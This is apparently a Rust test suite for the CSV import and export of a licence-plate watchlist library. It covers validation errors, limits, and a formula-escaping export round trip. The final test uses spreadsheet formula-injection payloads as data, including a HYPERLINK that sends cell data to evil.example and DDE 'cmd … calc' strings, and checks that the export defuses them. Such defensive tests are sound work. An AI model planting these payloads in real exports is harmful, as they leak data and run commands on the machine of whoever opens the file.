//! CSV import: good files, every kind of bad file, limits, and an export round trip.

use vigil_watchlist::csv_io::{read_csv, read_csv_list, write_csv};
use vigil_watchlist::import::Location;
use vigil_watchlist::{ImportError, ImportOptions, ListKind, ListName, Priority};

const HEADER: &str = "plate,list,kind,priority,reason,valid_from,valid_until,note\n";

fn import(text: &str) -> Result<Vec<vigil_watchlist::Watchlist>, ImportError> {
    read_csv(text.as_bytes(), &ImportOptions::default())
}

fn row(n: u64) -> Location {
    Location::Row { row: n, line: n }
}

#[test]
fn reads_lists_in_order_of_first_appearance() {
    let text = format!(
        "{HEADER}京A·12345,stolen,hotlist,high,case 7,2025-01-01T00:00:00+08:00,,\"red, dented\"\n\
         沪B0000D,gate-3,Allowlist,,,,,\n\
         粤C1234S,stolen,HOTLIST,critical,,,2026-01-01T00:00:00Z,\n"
    );
    let lists = import(&text).expect("valid");
    assert_eq!(
        lists
            .iter()
            .map(|l| (l.name().as_str(), l.len()))
            .collect::<Vec<_>>(),
        [("stolen", 2), ("gate-3", 1)]
    );
    let first = &lists[0].entries()[0];
    assert_eq!((first.plate.key(), first.plate.text()), ("京A12345", "京A·12345"));
    assert_eq!(first.priority, Priority::High);
    assert_eq!(first.note, "red, dented");
    assert_eq!(
        first.valid_from.map(|t| t.to_string()).as_deref(),
        Some("2024-12-31T16:00:00Z")
    );
    assert_eq!(
        lists[1].entries()[0].priority,
        Priority::Medium,
        "empty priority is medium"
    );
    assert_eq!(lists[1].kind(), ListKind::Allowlist);
}

#[test]
fn columns_may_be_reordered_and_optional_ones_left_out() {
    let lists =
        import("\u{feff}Kind , plate,list\nhotlist,京A12345,stolen\n").expect("BOM, case, spaces, order");
    assert_eq!(lists[0].entries()[0].plate.key(), "京A12345");
}

#[test]
fn empty_file_is_an_error_header_only_is_empty() {
    assert!(matches!(import(""), Err(ImportError::Empty)));
    assert!(matches!(import("\n\n"), Err(ImportError::Empty)));
    assert!(import(HEADER).expect("header only").is_empty());
    let name = ListName::parse("stolen").expect("name");
    let list = read_csv_list(
        HEADER.as_bytes(),
        &name,
        ListKind::Hotlist,
        &ImportOptions::default(),
    )
    .expect("valid");
    assert_eq!(
        (list.name(), list.kind(), list.len()),
        (&name, ListKind::Hotlist, 0)
    );
}

#[test]
fn wrong_headers_are_rejected_naming_the_column() {
    for (header, needle) in [
        ("plate,list,kind,colour\n", "\"colour\""),
        ("plate,list,kind,vaild_until\n", "\"vaild_until\""),
        ("plate,list\n", "\"kind\""),
        ("plate,list,kind,plate\n", "appears twice"),
        ("plate,list,kind,\n", "no name"),
        ("京A12345,stolen,hotlist\n", "unknown column"),
    ] {
        match import(header) {
            Err(ImportError::Header { reason }) => assert!(reason.contains(needle), "{header:?}: {reason}"),
            other => panic!("{header:?}: {other:?}"),
        }
    }
}

#[test]
fn bad_fields_report_row_column_and_hint() {
    let cases = [
        ("京A#2345,stolen,hotlist,,,,,", "plate", "'#'"),
        (",stolen,hotlist,,,,,", "plate", "empty"),
        ("京A12345,../etc,hotlist,,,,,", "list", "file"),
        ("京A12345,stolen,blocklist,,,,,", "kind", "hotlist or allowlist"),
        (
            "京A12345,stolen,hotlist,urgent,,,,",
            "priority",
            "low, medium, high or critical",
        ),
        (
            "京A12345,stolen,hotlist,,,2025-01-01,,",
            "valid_from",
            "with an offset",
        ),
        ("京A12345,stolen,hotlist,,,,tomorrow,", "valid_until", "RFC 3339"),
        (
            "京A12345,stolen,hotlist,,,2025-02-01T00:00:00Z,2025-01-01T00:00:00Z,",
            "valid_until",
            "swapped columns",
        ),
    ];
    for (line, want_column, hint) in cases {
        let text = format!("{HEADER}沪B11111,stolen,hotlist,,,,,\n{line}\n");
        match import(&text) {
            Err(ImportError::Field { at, column, reason }) => {
                assert_eq!(at, row(3), "{line}: the header is row 1, the bad row is row 3");
                assert_eq!(column, want_column, "{line}");
                assert!(reason.contains(hint), "{line}: {reason}");
            }
            other => panic!("{line}: {other:?}"),
        }
    }
}

#[test]
fn malformed_records_are_rejected() {
    let extra = format!("{HEADER}京A12345,stolen,hotlist,,,,,,oops\n");
    match import(&extra) {
        Err(ImportError::Malformed { at, reason }) => {
            assert_eq!(at, row(2));
            assert!(
                reason.contains("9 fields") && reason.contains("quote"),
                "{reason}"
            );
        }
        other => panic!("{other:?}"),
    }
    let mut gbk = HEADER.as_bytes().to_vec();
    gbk.extend_from_slice(b"\xbe\xa9A12345,stolen,hotlist,,,,,\n"); // 京 in GBK
    match read_csv(gbk.as_slice(), &ImportOptions::default()) {
        Err(ImportError::Malformed { at, reason }) => {
            assert_eq!(at, row(2));
            assert!(reason.contains("UTF-8"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn an_unclosed_quote_is_named_not_reported_as_a_field_count() {
    let text = format!(
        "{HEADER}京A12345,stolen,hotlist,,\"forgot to close,,,\n沪B00001,stolen,hotlist,,,,,\n粤C00002,stolen,hotlist,,,,,\n"
    );
    match import(&text) {
        Err(ImportError::Malformed { at, reason }) => {
            assert_eq!(at, row(2));
            assert!(
                reason.contains("never closed") && reason.contains("from line 2"),
                "{reason}"
            );
            assert!(!reason.contains("fields where"), "{reason}");
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn multi_line_fields_report_row_and_line() {
    let text = format!("{HEADER}京A12345,stolen,hotlist,,,,,\"two\nlines\"\n京A#,stolen,hotlist,,,,,\n");
    match import(&text) {
        Err(ImportError::Field { at, .. }) => assert_eq!(at, Location::Row { row: 3, line: 4 }),
        other => panic!("{other:?}"),
    }
}

#[test]
fn duplicates_in_a_list_name_both_rows() {
    let text = format!(
        "{HEADER}京A12345,stolen,hotlist,,,,,\n沪B11111,stolen,hotlist,,,,,\n京A12345,other,hotlist,,,,,\n京a-12345,stolen,hotlist,,,,,\n"
    );
    match import(&text) {
        Err(ImportError::Duplicate {
            list,
            key,
            first,
            second,
        }) => {
            assert_eq!((list.as_str(), key.as_str()), ("stolen", "京A12345"));
            assert_eq!(
                (first, second),
                (row(2), row(5)),
                "same plate on another list is fine"
            );
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn a_list_has_one_kind() {
    let text = format!("{HEADER}京A12345,stolen,hotlist,,,,,\n沪B11111,stolen,allowlist,,,,,\n");
    match import(&text) {
        Err(ImportError::KindConflict { first, at, .. }) => assert_eq!((first, at), (row(2), row(3))),
        other => panic!("{other:?}"),
    }
}

#[test]
fn single_list_import_rejects_rows_of_other_lists() {
    let name = ListName::parse("stolen").expect("name");
    let text = format!("{HEADER}京A12345,stolen,hotlist,,,,,\n沪B11111,wanted,hotlist,,,,,\n");
    match read_csv_list(
        text.as_bytes(),
        &name,
        ListKind::Hotlist,
        &ImportOptions::default(),
    ) {
        Err(ImportError::Field {
            at, column: "list", ..
        }) => assert_eq!(at, row(3)),
        other => panic!("{other:?}"),
    }
    let text = format!("{HEADER}京A12345,stolen,allowlist,,,,,\n");
    assert!(matches!(
        read_csv_list(
            text.as_bytes(),
            &name,
            ListKind::Hotlist,
            &ImportOptions::default()
        ),
        Err(ImportError::Field { column: "kind", .. })
    ));
}

/// A reader producing a header and then rows forever: the limit must stop it.
struct EndlessCsv {
    row: u64,
    pending: Vec<u8>,
}

impl std::io::Read for EndlessCsv {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        if self.pending.is_empty() {
            self.pending = if self.row == 0 {
                HEADER.as_bytes().to_vec()
            } else {
                format!("京A{:05},stolen,hotlist,,,,,\n", self.row).into_bytes()
            };
            self.row += 1;
        }
        let n = buf.len().min(self.pending.len());
        buf[..n].copy_from_slice(&self.pending[..n]);
        self.pending.drain(..n);
        Ok(n)
    }
}

#[test]
fn entry_limit_stops_an_endless_file() {
    let opts = ImportOptions { max_entries: 1000 };
    match read_csv(
        EndlessCsv {
            row: 0,
            pending: Vec::new(),
        },
        &opts,
    ) {
        Err(ImportError::TooManyEntries { limit, at }) => {
            assert_eq!(limit, 1000);
            assert_eq!(at, row(1002), "header + 1000 entries, the next row is over");
        }
        other => panic!("{other:?}"),
    }
    let exactly = format!("{HEADER}京A00001,s,hotlist,,,,,\n京A00002,s,hotlist,,,,,\n");
    assert_eq!(
        read_csv(exactly.as_bytes(), &ImportOptions { max_entries: 2 })
            .map(|l| l[0].len())
            .ok(),
        Some(2)
    );
}

#[test]
fn export_then_import_round_trips() {
    let text = format!(
        "{HEADER}京A·12345,stolen,hotlist,high,\"case \"\"7\"\"\",2025-01-01T00:00:00Z,2026-01-01T00:00:00Z,\"a,b\"\n\
         沪B0000D,gate-3,allowlist,low,,,,\n"
    );
    let lists = import(&text).expect("valid");
    let mut out = Vec::new();
    write_csv(&mut out, &lists).expect("write");
    let again = read_csv(out.as_slice(), &ImportOptions::default()).expect("reread");
    assert_eq!(again, lists);
    assert!(String::from_utf8(out).expect("utf8").starts_with(HEADER));
}

/// Issue 16: an export opened in a spreadsheet must not run formulas from plates, list names,
/// reasons or notes; importing the export gives the same lists back.
#[test]
fn export_defuses_spreadsheet_formulas_and_import_restores_them() {
    use vigil_watchlist::{Plate, Watchlist, WatchlistEntry};
    let name = ListName::parse("-suspects").expect("a list name may start with '-'");
    let entry = |plate: &str, reason: &str, note: &str| {
        let mut e = WatchlistEntry::new(
            Plate::parse(plate).expect("plate"),
            name.clone(),
            ListKind::Hotlist,
        );
        e.reason = reason.into();
        e.note = note.into();
        e
    };
    let list = Watchlist::new(
        name.clone(),
        ListKind::Hotlist,
        vec![
            entry(
                "京A12345",
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
                "+cmd|' /C calc'!A0",
            ),
            entry("-B22222", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1"),
            entry("C33333", "\r=1", "'=already quoted by hand"),
            entry("D44444", "'plain quote", "''+two quotes"),
            entry("E55555", "ordinary, text", "-"),
        ],
    )
    .expect("list");
    let mut out = Vec::new();
    write_csv(&mut out, [&list]).expect("write");

    // What a spreadsheet sees: the raw cells, no Vigil-side unescaping.
    let mut raw = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(out.as_slice());
    let cells: Vec<Vec<String>> = raw
        .records()
        .map(|r| r.expect("record").iter().map(str::to_owned).collect())
        .collect();
    for cell in cells.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a spreadsheet would run {cell:?}"
        );
    }
    assert_eq!(cells[0][4], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")");
    assert_eq!(cells[0][7], "'+cmd|' /C calc'!A0");
    assert_eq!(
        (cells[1][0].as_str(), cells[1][1].as_str()),
        ("'-B22222", "'-suspects")
    );
    assert_eq!(cells[1][4], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(
        cells[2][7], "''=already quoted by hand",
        "a quote already there is kept"
    );
    assert_eq!(
        cells[3][4], "'plain quote",
        "a quote before plain text is no escape"
    );
    assert_eq!(cells[4][4], "ordinary, text");

    let again = read_csv(out.as_slice(), &ImportOptions::default()).expect("the export imports");
    assert_eq!(again, vec![list.clone()]);
    let one = read_csv_list(
        out.as_slice(),
        &name,
        ListKind::Hotlist,
        &ImportOptions::default(),
    )
    .expect("replace from the export");
    assert_eq!(one, list);

    // A cell typed as '=x in a spreadsheet means =x, as it does there.
    let typed = read_csv(
        format!("{HEADER}'-F66666,'-suspects,hotlist,,'=1+1,,,'@x\n").as_bytes(),
        &ImportOptions::default(),
    )
    .expect("valid");
    let e = &typed[0].entries()[0];
    assert_eq!(
        (
            e.plate.text(),
            e.list.as_str(),
            e.reason.as_str(),
            e.note.as_str()
        ),
        ("-F66666", "-suspects", "=1+1", "@x")
    );
}
